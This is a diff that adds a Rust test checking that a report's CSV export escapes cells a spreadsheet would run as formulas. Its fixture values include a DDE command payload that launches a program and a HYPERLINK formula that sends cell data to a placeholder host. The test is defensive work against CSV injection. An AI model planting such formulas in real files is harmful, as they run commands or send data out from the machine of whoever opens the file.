@@ -154,6 +154,27 @@ fn the_csv_reads_back_through_a_standard_reader_to_the_same_values() {
 }
 
 #[test]
+fn cells_a_spreadsheet_would_run_as_formulas_read_back_as_text() {
+    let mut report = ReportSnapshot { results: vec![record(1, 0, 0), record(2, 1, 0)], ..fixed_report() };
+    report.agent.name = "@agent".into();
+    report.connector.model = "=cmd|' /C calc'!A0".into();
+    report.results[0].prompt = "=HYPERLINK(\"https://example.invalid/?\"&A1,\"open\")".into();
+    report.results[1].prompt = "-2+3".into();
+    report.results[1].error = Some("+http_500: \tupstream".into());
+    let text = to_csv(&report);
+    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    for row in &rows {
+        assert_eq!(&row[1], "'@agent");
+        assert_eq!(&row[2], "'=cmd|' /C calc'!A0");
+    }
+    assert_eq!(&rows[0][3], "'=HYPERLINK(\"https://example.invalid/?\"&A1,\"open\")");
+    assert_eq!(&rows[1][3], "'-2+3");
+    assert_eq!(&rows[1][10], "'+http_500: \tupstream");
+    assert_eq!(rows[1][6].parse::<f64>().unwrap(), report.results[1].total_ms, "numbers are left as they are");
+}
+
+#[test]
 fn the_html_export_stands_alone() {
     let html = to_html(&fixed_report());
     assert!(html.starts_with("<!DOCTYPE html>"));
